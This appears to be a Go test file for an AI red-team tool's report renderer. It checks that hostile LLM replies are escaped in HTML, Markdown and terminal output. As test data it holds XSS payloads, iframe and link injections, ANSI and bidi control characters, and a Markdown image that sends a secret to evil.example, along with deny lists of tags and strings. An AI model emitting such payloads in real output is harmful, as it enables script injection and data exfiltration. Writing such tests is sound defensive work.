package report

import (
	"regexp"
	"strings"
	"testing"

	"github.com/aisecops/aisec/internal/redteam/detect"
	"github.com/aisecops/aisec/internal/redteam/record"
)

// hostileSummary is a one-probe run whose only failing reply (and evidence, tool call and
// probe metadata) is the given text.
func hostileSummary(text string) *Summary {
	start := record.Start{
		RunID: "run|" + text, Target: record.Endpoint{Kind: "openai", URL: "http://127.0.0.1/v1", Model: "m`" + text},
		Probes: []record.Probe{{ID: "output/evil", Family: "output", Severity: "high", Description: text, Goal: text,
			Tags: []string{"owasp:LLM05", "note:" + text}, Detectors: []string{"xss"}}},
		Attempts: 1,
		Skipped:  []record.Skipped{{ID: text, Reason: text}, {ID: "output/" + text, Reason: text}},
	}
	a := attempt("output/evil#0#0", 0, record.StatusOK, text, hit("xss", text))
	a.System, a.Prompt = text, text
	a.Tools = []string{text}
	a.ToolCalls = []detect.ToolCall{{Name: text, Arguments: text}}
	return Build(start, []record.Attempt{a}, Options{FailUnder: 0.9})
}

const hostileReply = hostileScript + "\n" + hostileImage + "\n" + hostileImg + "\n" + hostileANSI + "\n" + hostilePipes +
	"\n<a href=\"javascript:alert(1)\">x</a> <iframe src=https://evil.example></iframe> @everyone http://evil.example ]]> </details>"

// reTag matches a real HTML tag: html/template writes every "<" of text as "&lt;", so any
// "<" left in the output opens markup the template itself wrote.
var (
	reTag     = regexp.MustCompile(`<(/?)([a-zA-Z][a-zA-Z0-9]*)([^>]*)>`)
	reBadAttr = regexp.MustCompile(`(?i)\s(src|href|action|formaction|xlink:href|on[a-z]+|style)\s*=`)
)

// allowedTags are the elements the report template uses.
func allowedTags() map[string]bool {
	m := map[string]bool{}
	for _, t := range strings.Fields(`html head meta title style body header h1 h2 h4 p section div span dl dt dd code
		svg g text rect line table tr th td details summary ul li b pre br footer`) {
		m[t] = true
	}
	return m
}

func TestHTMLEscapesHostileReplies(t *testing.T) {
	allowed := allowedTags()
	for _, s := range []*Summary{fixtureSummary(), hostileSummary(hostileReply)} {
		out := string(render(t, s, FormatHTML, WriteOptions{}))
		for _, m := range reTag.FindAllStringSubmatch(out, -1) {
			if !allowed[strings.ToLower(m[2])] {
				t.Errorf("HTML output contains the element <%s>", m[2])
			}
			if reBadAttr.MatchString(m[3]) {
				t.Errorf("HTML output contains a forbidden attribute: %s", m[0])
			}
		}
		for _, bad := range []string{"\x1b", "\u202e", "\a"} {
			if strings.Contains(out, bad) {
				t.Errorf("HTML output contains the raw character %q", bad)
			}
		}
		for _, want := range []string{"&lt;script&gt;", "![x](https://evil.example/log?q=SECRET-123)", `\x1b[31mRED`, `&lt;img src=x`} {
			if !strings.Contains(out, want) {
				t.Errorf("HTML output lacks the escaped reply text %q", want)
			}
		}
		// Self-contained: no stylesheet, font or image is fetched.
		lower := strings.ToLower(out)
		if strings.Contains(lower, "url(") || strings.Contains(lower, "@import") {
			t.Error("HTML output loads external resources")
		}
	}
}

func TestHTMLStructure(t *testing.T) {
	out := string(render(t, fixtureSummary(), FormatHTML, WriteOptions{}))
	if n := strings.Count(out, `<details class="probe">`); n != 4 {
		t.Errorf("got %d drill-down blocks, want one per failing probe (4)", n)
	}
	if n := strings.Count(out, "<svg"); n != 2 {
		t.Errorf("got %d charts, want 2", n)
	}
	if !strings.Contains(out, "Content-Security-Policy") || !strings.HasPrefix(out, "<!DOCTYPE html>") {
		t.Error("missing doctype or content security policy")
	}
}

// splitRow splits a Markdown table row at its unescaped pipes.
func splitRow(line string) []string {
	var cells []string
	var cur strings.Builder
	for i := 0; i < len(line); i++ {
		switch {
		case line[i] == '\\' && i+1 < len(line):
			cur.WriteByte(line[i])
			cur.WriteByte(line[i+1])
			i++
		case line[i] == '|':
			cells = append(cells, cur.String())
			cur.Reset()
		default:
			cur.WriteByte(line[i])
		}
	}
	return cells
}

func TestMarkdownEscapesHostileText(t *testing.T) {
	out := string(render(t, hostileSummary(hostileReply), FormatMarkdown, WriteOptions{Verbose: true}))
	inFence, fence := false, ""
	opened, closed := 0, 0
	for n, line := range strings.Split(out, "\n") {
		if !inFence && strings.HasPrefix(line, "```") {
			inFence, fence = true, strings.TrimSuffix(line, "text")
			continue
		}
		if inFence {
			if line == fence {
				inFence = false
			} else if strings.HasPrefix(line, "```") {
				t.Errorf("line %d: reply text %q could close or reopen the fence %q", n+1, line, fence)
			}
			continue
		}
		opened += strings.Count(line, "<details>")
		closed += strings.Count(line, "</details>")
		// Outside fences nothing from the reply may be live Markdown or HTML.
		for _, bad := range []string{"<script", "<img", "<iframe", "](", "<a ", "@everyone", "http://evil", "\x1b", "\u202e"} {
			if strings.Contains(line, bad) {
				t.Errorf("line %d contains live %q: %s", n+1, bad, line)
			}
		}
	}
	if inFence {
		t.Error("a fence is left open")
	}
	if opened != 1 || closed != 1 {
		t.Errorf("outside fences: %d <details> and %d </details>, want 1 each", opened, closed)
	}
	if !strings.Contains(out, "<script>alert('xss')</script>") {
		t.Error("the reply should appear verbatim inside its fenced block")
	}
}

func TestMarkdownTableCellsKeepColumns(t *testing.T) {
	out := string(render(t, hostileSummary(hostileReply), FormatMarkdown, WriteOptions{Verbose: true}))
	lines := strings.Split(out, "\n")
	for i := 0; i+1 < len(lines); i++ {
		if !strings.HasPrefix(lines[i+1], "|---") {
			continue
		}
		cols := len(splitRow(lines[i]))
		for j := i + 2; j < len(lines) && strings.HasPrefix(lines[j], "|"); j++ {
			if got := len(splitRow(lines[j])); got != cols {
				t.Errorf("row %q has %d cells, header has %d", lines[j], got, cols)
			}
		}
	}
}

func TestMdFence(t *testing.T) {
	tests := []struct{ in, fence string }{
		{"plain", "```"},
		{"a ``` b", "````"},
		{"`````", "``````"},
		{"", "```"},
	}
	for _, tt := range tests {
		got := mdFence(tt.in)
		if !strings.HasPrefix(got, tt.fence+"text\n") || !strings.HasSuffix(got, "\n"+tt.fence) {
			t.Errorf("mdFence(%q) = %q, want fence %q", tt.in, got, tt.fence)
		}
	}
}

func TestTableNeutralisesEscapes(t *testing.T) {
	out := string(render(t, hostileSummary(hostileReply), FormatTable, WriteOptions{Verbose: true}))
	if strings.ContainsAny(out, "\x1b\a\r") || strings.Contains(out, "\u202e") {
		t.Errorf("table output carries raw control characters:\n%q", out)
	}
	if !strings.Contains(out, `\x1b[31mRED`) {
		t.Error("escapes should be shown, not dropped")
	}
}
